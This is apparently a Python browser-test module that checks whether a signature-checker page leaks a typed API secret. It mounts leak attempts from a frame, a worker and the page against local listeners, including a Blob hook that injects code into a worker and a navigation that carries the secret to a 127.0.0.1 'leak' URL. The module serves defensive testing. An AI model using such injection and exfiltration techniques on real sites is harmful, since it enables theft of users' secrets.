"""One visit to the checker with a secret typed, every attack made, and the list of what came of it."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import hmac
import json
import re
import socket
import time
from pathlib import Path
from typing import TYPE_CHECKING

from tests.browser.checker import PATH
from tests.browser.drive.driver import DriverError, wait_for

if TYPE_CHECKING:
    from tests.browser.drive.driver import Driver
    from tests.browser.listeners import Listeners
    from tests.served import Site

HERE = Path(__file__).parent
SECRET = "c2VjcmV0LXRoYXQtbXVzdC1zdGF5"
"""Letters and digits alone, so that it looks the same in an address, a header, a cookie and a body."""

PLACES = ("frame", "worker", "page")
TCP = (*(f"{place} silently" for place in PLACES), "frame preconnect", "page preconnect", "frame navigating silently")
UDP = tuple(f"{place} {way}" for place in ("frame", "page") for way in ("webrtc", "webrtc of a child", "webtransport"))
SETTLE, PATIENCE = 1.2, 10
"""Seconds: for what must not come, and at most for what must."""
DOCUMENT, WORKER, PAGE, REMAINS = (
    (HERE / f"{name}.js").read_text() for name in ("document", "worker", "page", "remains")
)
_HOOK_WORKER = """source => {
  const Native = Blob;
  globalThis.Blob = class extends Native {
    constructor(parts, options) {
      super(parts.some(part => String(part).includes("serveFromMemory")) ? [...parts, source] : parts, options);
    }
  };
}"""
_LISTEN = """() => {
  globalThis.leakHeard = [];
  addEventListener("message", event => leakHeard.push(event.data));
  globalThis.leakBroadcast = [];
  new BroadcastChannel("leak").onmessage = event => leakBroadcast.push(event.data);
}"""
_NAVIGATE = """([whose, to]) => void setTimeout(() => { (whose === "top" ? top : self).location.href = to; }, 0)"""
_SENT = re.compile(rb"/leak/([^/ ]+)/([^/? ]+)")


def attack(
    engine: Driver, site: Site, listeners: Listeners, *, places: tuple[str, ...], awaited: frozenset[str] = frozenset()
) -> set[str]:
    """Rows `place way → where it was heard`: attacks from the given places, a real check before them for the worker's.

    What the page can say without knowing the secret is a row only where somebody else than our own server hears it.
    Rows that are `awaited` get some more time; where none is, nothing is known to come and the time is always the same.
    """
    del site.log[:], listeners.heard[:]
    targets = {place: [f"http://127.0.0.1:{listeners.ports[f'{place} silently']}/", site.url] for place in PLACES}
    open_checker(engine, site)
    engine.evaluate(_LISTEN)
    if "worker" in places:
        told = {"place": "worker", "targets": targets["worker"]}
        engine.evaluate(_HOOK_WORKER, f"\nconst ATTACK = {json.dumps(told)};\n{WORKER}", frame=True)
        check_own_values(engine)
    else:
        type_secret(engine)
    told = {"ports": listeners.ports | {"addresses": _addresses()}, "worker": WORKER}
    learned = engine.evaluate(PAGE)
    found = {f"page read the frame, way {n}" for n, text in enumerate(learned) if SECRET in text}
    if "frame" in places:
        engine.evaluate(DOCUMENT, {**told, "place": "frame", "secret": SECRET, "targets": targets["frame"]}, frame=True)
    if "page" in places:
        known = SECRET if found else "nothing"
        engine.evaluate(DOCUMENT, {**told, "place": "page", "secret": known, "targets": targets["page"]})
    _settle(site, listeners, {row for row in awaited if "→" in row and "navigation" not in row})
    found |= {f"kept in {name}" for name in engine.evaluate(REMAINS, {"secret": SECRET})}
    if "frame" in places:
        _navigate(engine, f"http://127.0.0.1:{listeners.ports['frame navigating silently']}/")
        _settle(site, listeners, {row for row in awaited if "navigation" in row})
    engine.close()
    return found | heard(site, listeners)


def open_checker(engine: Driver, site: Site) -> None:
    engine.open(site.url + PATH)
    wait_for(engine, "() => document.querySelector('[name=path]').value !== ''", frame=True)


def type_secret(engine: Driver) -> None:
    engine.fill("[name=example]", "own", frame=True)
    engine.fill("[name=secret]", SECRET, frame=True)


def check_own_values(engine: Driver) -> None:
    path, nonce = "/0/private/Balance", "1"
    digest = hashlib.sha256(f"{nonce}nonce={nonce}".encode()).digest()
    signature = base64.b64encode(hmac.digest(base64.b64decode(SECRET), path.encode() + digest, "sha512")).decode()
    type_secret(engine)
    values = {"path": path, "nonce": nonce, "body": f"nonce={nonce}", "api-sign": signature}
    for name, value in values.items():
        engine.fill(f"[name={name}]", value, frame=True)
    engine.click("#check", frame=True)
    wait_for(engine, "() => document.querySelector('#outcome').dataset.verdict === 'match'", frame=True)


def heard(site: Site, listeners: Listeners) -> set[str]:
    rows = set()
    for one in listeners.heard:
        known = _SENT.search(one.said)
        rows.add(f"{known[1].decode()} {known[2].decode()} → outside" if known else f"{one.name} → outside")
    for line in site.log:
        known = _SENT.search(line.encode())
        if SECRET in line:
            rows.add(f"{known[1].decode()} {known[2].decode()} → own server" if known else f"{line} → own server")
    return rows


def _settle(site: Site, listeners: Listeners, awaited: set[str]) -> None:
    time.sleep(SETTLE)
    end = time.monotonic() + PATIENCE
    while not awaited <= heard(site, listeners) and time.monotonic() < end:
        time.sleep(0.2)


def _navigate(engine: Driver, target: str) -> None:
    for whose in ("top", "self"):
        with contextlib.suppress(DriverError):
            engine.evaluate(_NAVIGATE, [whose, f"{target}leak/frame/{whose}-navigation?{SECRET}"], frame=True)
        time.sleep(SETTLE / 2)


def _addresses() -> list[str]:
    """Addresses of this machine besides 127.0.0.1, which some engines leave out of WebRTC."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe, contextlib.suppress(OSError):
        probe.connect(("192.0.2.1", 9))
        return [probe.getsockname()[0]]
    return []
